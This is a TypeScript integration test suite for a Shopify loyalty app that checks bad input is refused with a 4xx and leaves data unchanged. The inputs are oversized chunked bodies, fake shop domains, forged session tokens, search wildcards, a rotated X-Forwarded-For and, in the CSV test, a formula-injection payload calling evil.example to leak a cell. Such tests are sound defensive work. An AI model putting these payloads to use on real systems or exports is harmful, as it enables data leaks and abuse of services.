// Bad input at every door of the running app, over real HTTP: bodies capped on the bytes actually
// read (chunked too), shop domains that are no shop, LIKE wildcards and NUL in the customer
// search, formulas in CSV cells, and the guest rate limit against a rotated X-Forwarded-For.
// Each refusal is a 4xx that changes nothing, never a 500. Runs on SQLite and on PostgreSQL.
import { createHmac, randomUUID } from "node:crypto";
import { request as httpRequest } from "node:http";
import { beforeAll, describe, expect, inject, it } from "vitest";
import { MAX_ADMIN_BODY_BYTES } from "../../app/platform/http/body.server";
import { MAX_PROXY_BODY_BYTES } from "../../app/storefront/proxy-request";
import { GUEST_READ_LIMIT } from "../../app/storefront/rate-limit";
import { adminCall, installShop, proxyFetch, proxyUrl } from "../support/app-proxy";
import { TEST_API_KEY, TEST_API_SECRET } from "../support/app-server";
import { testDb } from "../support/db";
import { BROWSER_HEADERS, embeddedAppUrl, sessionToken } from "../support/session-token";
import { waitFor } from "../support/wait";
import { fixture, orderPayload, sendCustomer, sendWebhook, sign, uniqueShop } from "../support/webhooks";

const app = () => inject("appUrl");
const double = () => inject("adminDoubleUrl");
const MiB = 1024 * 1024;

let sequence = 0;
const newId = () => String(9_200_000_000_000_000_000n + BigInt(Date.now() % 1_000_000) * 1000n + BigInt(++sequence));
const gidOf = (id: string) => `gid://shopify/Customer/${id}`;

const REWARD = { id: "ten-off", name: "$10 off", kind: "fixed_amount", pointsCost: 60, validDays: 30, value: "1000" } as const;

/** A shop with the program on: a point per 1.00 spent, one reward, and a tier at 10 points. */
async function programShop(prefix: string, tierName = "Silver") {
  const shop = uniqueShop(prefix);
  await installShop(app(), double(), shop);
  const saved = await adminCall(app(), shop, "/app/api/loyalty/program", {
    enabled: true,
    settings: { pendingDays: 14 },
    rules: [
      {
        id: "purchase",
        kind: "purchase",
        points: 1,
        perAmount: "100",
        effectiveFrom: new Date(Date.now() - 365 * 86_400_000).toISOString(),
      },
    ],
    tiers: [{ id: "silver", name: tierName, threshold: "10", multiplierBasisPoints: 10000 }],
    rewards: [REWARD],
  });
  expect(saved.status, await saved.clone().text()).toBe(200);
  return shop;
}

const createCustomer = (shop: string, id: string, firstName: string, lastName: string, email: string) =>
  sendCustomer(app(), shop, id, { first_name: firstName, last_name: lastName, email });

/** Credits points as staff would, to a customer the shop has (created first). */
async function credit(shop: string, customerGid: string, points: number) {
  await createCustomer(shop, customerGid.split("/").pop()!, "Ada", "Credit", "ada@example.com");
  const response = await adminCall(app(), shop, "/app/api/loyalty/adjust", {
    customerGid,
    points,
    reason: "Welcome gift",
    requestId: randomUUID(),
  });
  expect(response.status, await response.clone().text()).toBe(200);
}

/** What a refused request must leave as it was. */
async function shopState(shop: string) {
  const db = testDb();
  const [entries, redemptions, program] = await Promise.all([
    db.ledgerEntry.count({ where: { shopDomain: shop } }),
    db.redemption.count({ where: { shopDomain: shop } }),
    db.loyaltyProgram.findUnique({ where: { shopDomain: shop }, select: { settings: true, enabled: true } }),
  ]);
  return { entries, redemptions, program };
}

interface ChunkedAnswer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  /** Bytes handed to the connection before the answer came (the rest was never sent). */
  sent: number;
}

/**
 * POSTs `head`, then `padding` bytes of spaces, without Content-Length (chunked), 64 KiB a
 * chunk; stops sending once the answer arrives, as a client does when the server refuses early.
 * Between chunks the client waits a moment, so it reads an early answer before it writes again:
 * the server closes the connection behind a 413, and Node's client reports a write to a closed
 * connection before an answer that is already there.
 */
function postChunked(url: string, headers: Record<string, string>, head: string, padding: number): Promise<ChunkedAnswer> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(url, { method: "POST", headers: { ...BROWSER_HEADERS, ...headers } });
    let answered = false;
    let sent = 0;
    request.on("response", (response) => {
      answered = true;
      const chunks: Buffer[] = [];
      response.on("data", (chunk: Buffer) => chunks.push(chunk));
      response.on("end", () =>
        resolve({ status: response.statusCode!, headers: response.headers, body: Buffer.concat(chunks).toString("utf8"), sent }),
      );
      response.on("error", reject);
    });
    // The server closing the connection on a refused body ends the upload; only an error before an answer counts.
    request.on("error", (error) => answered || reject(error));
    const space = Buffer.alloc(64 * 1024, " ");
    const send = async () => {
      request.write(head);
      sent += Buffer.byteLength(head);
      for (let left = padding; left > 0 && !answered;) {
        await new Promise((done) => setTimeout(done, 2));
        if (answered) return;
        const chunk = space.subarray(0, Math.min(space.length, left));
        left -= chunk.length;
        sent += chunk.length;
        request.write(chunk);
      }
      if (!answered) request.end();
    };
    void send();
  });
}

const json = (answer: ChunkedAnswer) => JSON.parse(answer.body);

describe("request bodies are capped on the bytes read, chunked or not", () => {
  it("refuses a 20 MiB chunked body to the App Proxy with 413 and changes nothing; one just under the cap still works", async () => {
    const shop = await programShop("body-proxy");
    const customerId = newId();
    await credit(shop, gidOf(customerId), 100);
    const before = await shopState(shop);
    const url = proxyUrl(app(), "redeem", { shop, customerId });
    const head = JSON.stringify({ rewardId: REWARD.id, clientKey: "chunked-key-1" });

    const huge = await postChunked(url, { "Content-Type": "application/json" }, head, 20 * MiB);
    expect([huge.status, json(huge), huge.headers.connection]).toEqual([
      413,
      { error: "body_too_large", maxBytes: MAX_PROXY_BODY_BYTES },
      "close",
    ]);
    expect(huge.sent).toBeLessThan(20 * MiB);
    expect(await shopState(shop)).toEqual(before);

    const justUnder = await postChunked(
      url,
      { "Content-Type": "application/json" },
      head,
      MAX_PROXY_BODY_BYTES - Buffer.byteLength(head),
    );
    expect(justUnder.status, justUnder.body).toBe(200);
    expect(json(justUnder)).toMatchObject({ status: "issued", rewardId: REWARD.id });
    expect(await testDb().redemption.count({ where: { shopDomain: shop } })).toBe(1);
  });

  it("refuses a 20 MiB chunked body to an admin API route with 413 and changes nothing; one just under the cap still works", async () => {
    const shop = await programShop("body-admin");
    const id = newId();
    const gid = gidOf(id);
    await createCustomer(shop, id, "Chunk", "Ed", "chunked@example.com");
    const before = await shopState(shop);
    const url = `${app()}/app/api/loyalty/adjust`;
    const headers = { "Content-Type": "application/json", Authorization: `Bearer ${sessionToken(shop)}` };
    const head = JSON.stringify({ customerGid: gid, points: 25, reason: "Chunked", requestId: "chunked-1" });

    const huge = await postChunked(url, headers, head, 20 * MiB);
    expect([huge.status, json(huge), huge.headers.connection]).toEqual([
      413,
      { error: "body_too_large", maxBytes: MAX_ADMIN_BODY_BYTES },
      "close",
    ]);
    expect(huge.sent).toBeLessThan(20 * MiB);
    expect(await shopState(shop)).toEqual(before);

    const justUnder = await postChunked(url, headers, head, MAX_ADMIN_BODY_BYTES - Buffer.byteLength(head));
    expect(justUnder.status, justUnder.body).toBe(200);
    expect(await testDb().ledgerEntry.count({ where: { shopDomain: shop, memberGid: gid } })).toBe(1);
  });

  it("refuses a 20 MiB chunked body to an admin form action (a customer's adjustment, settings) with 413, recording nothing", async () => {
    const shop = await programShop("body-form");
    const id = newId();
    await createCustomer(shop, id, "Form", "Poster", "form@example.com");
    const before = await shopState(shop);
    const token = sessionToken(shop);
    const form = `points=25&reason=Chunked&requestId=${randomUUID()}&padding=`;
    const formHeaders = { "Content-Type": "application/x-www-form-urlencoded", Authorization: `Bearer ${token}` };
    // As the page submits it (single fetch's .data), and as a plain HTML form would.
    for (const url of [`${app()}/app/customers/${id}.data`, `${app()}/app/customers/${id}`]) {
      const adjust = await postChunked(url, formHeaders, form, 20 * MiB);
      expect([adjust.status, adjust.headers.connection], url).toEqual([413, "close"]);
    }
    const settings = await postChunked(
      `${app()}/app/loyalty/settings.data`,
      { "Content-Type": "application/json", Authorization: `Bearer ${token}` },
      "{",
      20 * MiB,
    );
    expect([settings.status, settings.headers.connection]).toEqual([413, "close"]);
    const login = await postChunked(
      `${app()}/auth/login`,
      { "Content-Type": "application/x-www-form-urlencoded" },
      "shop=",
      20 * MiB,
    );
    expect([login.status, login.headers.connection]).toEqual([413, "close"]);
    expect(await shopState(shop)).toEqual(before);
  });

  it("refuses a 20 MiB chunked webhook with 413 before its signature is even checked, storing nothing", async () => {
    const shop = uniqueShop("body-webhook");
    const head = JSON.stringify({ ...fixture("orders/create") }).slice(0, -1);
    const answer = await postChunked(
      `${app()}/webhooks`,
      {
        "Content-Type": "application/json",
        "X-Shopify-Topic": "orders/create",
        "X-Shopify-Shop-Domain": shop,
        "X-Shopify-Hmac-Sha256": sign(head),
        "X-Shopify-Webhook-Id": randomUUID(),
      },
      head,
      20 * MiB,
    );
    expect([answer.status, answer.headers.connection]).toEqual([413, "close"]);
    expect(await testDb().webhookEvent.count({ where: { shopDomain: shop } })).toBe(0);
  });
});

/** A session token signed with the app's secret, with any payload (as only Shopify could issue). */
function signedToken(payload: Record<string, unknown>): string {
  const now = Math.floor(Date.now() / 1000);
  const base64Url = (text: string | Buffer) => Buffer.from(text).toString("base64url");
  const header = base64Url(JSON.stringify({ alg: "HS256", typ: "JWT" }));
  const body = base64Url(
    JSON.stringify({
      aud: TEST_API_KEY,
      sub: "42",
      exp: now + 60,
      nbf: now - 5,
      iat: now - 5,
      jti: randomUUID(),
      sid: randomUUID(),
      ...payload,
    }),
  );
  return `${header}.${body}.${base64Url(createHmac("sha256", TEST_API_SECRET).update(`${header}.${body}`).digest())}`;
}

const NOT_SHOPS = [
  "evil.example.com",
  "https://evil.example.com",
  "evil.myshopify.com.evil.example.com",
  "evil.example.com\0",
  "\0",
  "",
];

describe("shop domains that are no <name>.myshopify.com answer 400, never 500", () => {
  const get = async (url: string, headers: Record<string, string> = {}) => {
    const response = await fetch(url, { headers: { ...BROWSER_HEADERS, ...headers }, redirect: "manual" });
    await response.arrayBuffer();
    return response.status;
  };

  it("the shop of /auth/login, as a query or a form post; a shop domain or a bare name goes on to Shopify", async () => {
    for (const shop of NOT_SHOPS.filter(Boolean)) {
      expect(await get(`${app()}/auth/login?shop=${encodeURIComponent(shop)}`), shop).toBe(400);
      const posted = await fetch(`${app()}/auth/login`, {
        method: "POST",
        headers: BROWSER_HEADERS,
        body: new URLSearchParams({ shop }),
        redirect: "manual",
      });
      expect(posted.status, shop).toBe(400);
      expect(await posted.text()).toContain("Enter a valid shop domain");
    }
    const missing = await fetch(`${app()}/auth/login`, {
      method: "POST",
      headers: BROWSER_HEADERS,
      body: new URLSearchParams({ shop: "" }),
      redirect: "manual",
    });
    expect(missing.status).toBe(400);
    expect(await get(`${app()}/auth/login`)).toBe(200);
    for (const shop of ["doors-login.myshopify.com", "doors-login"]) {
      const response = await fetch(`${app()}/auth/login?shop=${shop}`, { headers: BROWSER_HEADERS, redirect: "manual" });
      expect([response.status, response.headers.get("location")]).toEqual([
        302,
        `https://admin.shopify.com/store/doors-login/oauth/install?client_id=${TEST_API_KEY}`,
      ]);
    }
  });

  it("the shop of a signed App Proxy request", async () => {
    for (const shop of NOT_SHOPS) {
      const response = await fetch(proxyUrl(app(), "panel", { shop }));
      expect([response.status, await response.json()], JSON.stringify(shop)).toEqual([400, { error: "invalid_shop" }]);
    }
  });

  it("the dest of an admin session token (Bearer), on the JSON API and on a page", async () => {
    const shop = uniqueShop("doors-dest");
    await installShop(app(), double(), shop);
    const dests = [
      ...NOT_SHOPS.map((name) => `https://${name}`),
      "evil.example.com",
      "not a url",
      `https://${shop}/admin`,
      `http://${shop}`,
      null,
    ];
    for (const dest of dests) {
      const token = signedToken(dest === null ? { iss: `https://${shop}/admin` } : { iss: `${dest}/admin`, dest });
      for (const path of ["/app/api/loyalty/program", "/app/customers", "/app/customers.csv"]) {
        expect(await get(`${app()}${path}`, { Authorization: `Bearer ${token}` }), `${path} with dest ${dest}`).toBe(400);
      }
      expect(await get(embeddedAppUrl(app(), shop, token)), `embedded load with dest ${dest}`).toBe(400);
    }
    // The same shop's own token still works.
    expect(await get(`${app()}/app/api/loyalty/program`, { Authorization: `Bearer ${sessionToken(shop)}` })).toBe(200);
  });

  it("the shop of an embedded app URL and of Shopify's auth routes", async () => {
    const shop = uniqueShop("doors-embedded");
    await installShop(app(), double(), shop);
    for (const other of NOT_SHOPS) {
      const query = encodeURIComponent(other);
      expect(await get(`${embeddedAppUrl(app(), shop, sessionToken(shop))}&shop=${query}`), `two shops, one ${other}`).toBe(400);
      expect(
        await get(embeddedAppUrl(app(), shop, sessionToken(shop)).replace(`shop=${shop}`, `shop=${query}`)),
        `embedded ${other}`,
      ).toBe(400);
      for (const path of ["/auth", "/auth/session-token", "/auth/exit-iframe", "/auth/callback", "/app"]) {
        expect(
          await get(`${app()}${path}?shop=${query}&host=YWRtaW4uc2hvcGlmeS5jb20vc3RvcmUvZXZpbA`),
          `${path} shop=${other}`,
        ).toBe(400);
      }
    }
  });
});

describe("the customer search", () => {
  const shop = uniqueShop("doors-search");
  const percent = newId();
  const underscore = newId();
  const backslash = newId();
  const plain = newId();

  beforeAll(async () => {
    await installShop(app(), double(), shop);
    await createCustomer(shop, percent, "Fifty%", "Off", "fifty@example.com");
    await createCustomer(shop, underscore, "Under_score", "Person", "under@example.com");
    await createCustomer(shop, backslash, "Back\\slash", "Person", "back@example.com");
    await createCustomer(shop, plain, "Fiftyone", "Underxscore", "backxslash@example.com");
  });

  const search = async (q: string) => {
    const response = await fetch(`${app()}/app/customers.csv?q=${encodeURIComponent(q)}`, {
      headers: { ...BROWSER_HEADERS, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    const text = await response.text();
    expect(response.status, text).toBe(200);
    return text
      .trim()
      .split("\r\n")
      .slice(1)
      .map((line) => line.split(",")[0])
      .sort();
  };

  it("matches %, _ and \\ literally, not as LIKE wildcards", async () => {
    expect(await search("%")).toEqual([gidOf(percent)]);
    expect(await search("fifty%")).toEqual([gidOf(percent)]);
    expect(await search("_")).toEqual([gidOf(underscore)]);
    expect(await search("under_")).toEqual([gidOf(underscore)]);
    expect(await search("\\")).toEqual([gidOf(backslash)]);
    expect(await search("back\\s")).toEqual([gidOf(backslash)]);
    // Still case-insensitive, every word somewhere.
    expect(await search("FIFTY")).toEqual([gidOf(percent), gidOf(plain)].sort());
    expect(await search("person under")).toEqual([gidOf(underscore)]);
  });

  it("answers a search with NUL with 400, on the page and the export", async () => {
    for (const path of ["/app/customers.csv?q=%00", "/app/customers.csv?q=a%00b"]) {
      const response = await fetch(`${app()}${path}`, {
        headers: { ...BROWSER_HEADERS, Authorization: `Bearer ${sessionToken(shop)}` },
      });
      expect([response.status, await response.json()]).toEqual([400, { error: expect.stringContaining("q=") }]);
    }
    const page = await fetch(`${embeddedAppUrl(app(), shop, sessionToken(shop), "/app/customers")}&q=%00`, {
      headers: BROWSER_HEADERS,
    });
    expect(page.status).toBe(400);
    expect(await page.text()).toContain("q");
  });
});

describe("CSV exports against formula injection", () => {
  it("writes a tier named =HYPERLINK(...) as text, with a leading '", async () => {
    const tierName = '=HYPERLINK("https://evil.example/?leak="&A1)';
    const shop = await programShop("doors-csv", tierName);
    const id = newId();
    await createCustomer(shop, id, "Csv", "Member", "csv@example.com");
    const order = orderPayload(id, new Date(Date.now() - 30 * 86_400_000).toISOString(), "50.00");
    expect((await sendWebhook(app(), { topic: "orders/create", shop, body: order })).status).toBe(200);
    await waitFor(
      "the member's tier",
      async () =>
        (await testDb().loyaltyMember.findFirst({ where: { shopDomain: shop, customerGid: gidOf(id), tierId: "silver" } })) !==
        null,
    );
    const response = await fetch(`${app()}/app/customers.csv`, {
      headers: { ...BROWSER_HEADERS, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    const [header, row] = (await response.text()).trim().split("\r\n");
    expect(header.split(",").at(-1)).toBe("tier");
    expect(row.startsWith(`${gidOf(id)},`)).toBe(true);
    expect(row.endsWith(`,"'${tierName.replace(/"/g, '""')}"`)).toBe(true);
  });
});

describe("the guest rate limit", () => {
  it("holds when the client rotates what it puts in X-Forwarded-For before Shopify's entry", async () => {
    const shop = await programShop("doors-guests");
    // The client's own entries, then Shopify's, then the host's load balancer's (COMEBACK_HOST_PROXIES=1).
    const read = (clientPart: string, shopifyEntry = "203.0.113.9") =>
      proxyFetch(app(), "panel", { shop, headers: { "X-Forwarded-For": `${clientPart}, ${shopifyEntry}, 10.1.2.3` } });
    const statuses: number[] = [];
    for (let i = 0; i < GUEST_READ_LIMIT.limit; i++)
      statuses.push((await read(`198.51.100.${i % 250}, 192.0.2.${i % 200}`)).status);
    expect(new Set(statuses)).toEqual(new Set([200]));
    const rotated = await read(`198.51.100.251, ${randomUUID()}`);
    expect([rotated.status, await rotated.json()]).toEqual([429, { error: "rate_limited" }]);
    expect((await read("")).status).toBe(429);
    // Another shopper, as Shopify saw them, has their own count.
    expect((await read("198.51.100.251", "203.0.113.10")).status).toBe(200);
  });
});
